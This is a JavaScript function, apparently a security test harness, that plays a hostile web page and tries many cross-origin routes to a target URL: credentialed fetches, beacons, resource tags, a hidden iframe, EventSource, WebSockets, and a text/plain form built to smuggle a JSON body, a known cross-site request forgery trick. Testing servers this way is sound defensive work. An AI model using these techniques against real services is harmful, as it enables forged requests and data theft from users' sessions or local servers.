// What a hostile page does with a URL and a body; returns what came of each try.
async (target) => {
  const results = {};
  const body = JSON.stringify(target.body);
  const settled = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done("silent"), 4000))]);
  // with cookies, and without: a server that answers everyone (`Access-Control-Allow-Origin: *`) is read without them
  const reads = async (name, options) => {
    for (const credentials of ["include", "omit"]) {
      try {
        const answer = await fetch(target.url, { credentials, ...options });
        results[`${name}, ${credentials}`] = answer.type === "opaque" ? "opaque" : `read ${answer.status}`;
      } catch { results[`${name}, ${credentials}`] = "refused"; }
    }
  };
  const json = { "Content-Type": "application/json" };
  await reads("get", {});
  await reads("get without cors", { mode: "no-cors" });
  await reads("post text", { method: "POST", headers: { "Content-Type": "text/plain" }, body });
  await reads("post json", { method: "POST", headers: json, body });
  await reads("post json with our header", { method: "POST", headers: { ...json, "X-Undertone": "annotate" }, body });
  await reads("post without cors", { method: "POST", mode: "no-cors", body });
  await reads("put", { method: "PUT", headers: json, body });
  navigator.sendBeacon(target.url, body);
  const loads = (tag, attribute) => settled(new Promise((done) => {
    const element = document.createElement(tag);
    if (tag === "link") element.rel = "stylesheet";
    element.onload = element.onloadeddata = () => done("loaded");
    element.onerror = () => done("refused");
    element[attribute] = target.url;
    document.body.append(element);
  }));
  results.image = await loads("img", "src");
  results.script = await loads("script", "src");
  results.style = await loads("link", "href");
  results.audio = await loads("audio", "src");
  const frame = document.createElement("iframe");
  frame.name = "hidden";
  frame.src = target.url;
  await settled(new Promise((done) => { frame.onload = done; document.body.append(frame); }));
  try { results.frame = frame.contentDocument ? `read ${frame.contentDocument.body.innerText}` : "closed"; } catch { results.frame = "closed"; }
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: target.url, enctype: "text/plain", target: "hidden" });
  const field = document.createElement("input");
  // a text/plain form sends NAME=VALUE: together they are JSON
  Object.assign(field, { name: body.slice(0, -1) + ', "x": "', value: '"}' });
  form.append(field);
  document.body.append(form);
  form.submit();
  await settled(new Promise((done) => { frame.onload = done; }));
  results.events = await settled(new Promise((done) => {
    const source = new EventSource(target.url, { withCredentials: true });
    source.onopen = source.onmessage = () => done("opened");
    source.onerror = () => { source.close(); done("refused"); };
  }));
  // few of them: Chromium delays connections to a host that has refused some
  for (const protocols of target.sockets ? [[], ["prefect"]] : []) {
    results[`socket ${protocols}`] = await settled(new Promise((done) => {
      const socket = new WebSocket(target.url.replace("http", "ws"), protocols);
      socket.onopen = socket.onmessage = () => done("opened");
      socket.onerror = socket.onclose = () => done("refused");
    }));
  }
  return results;
}
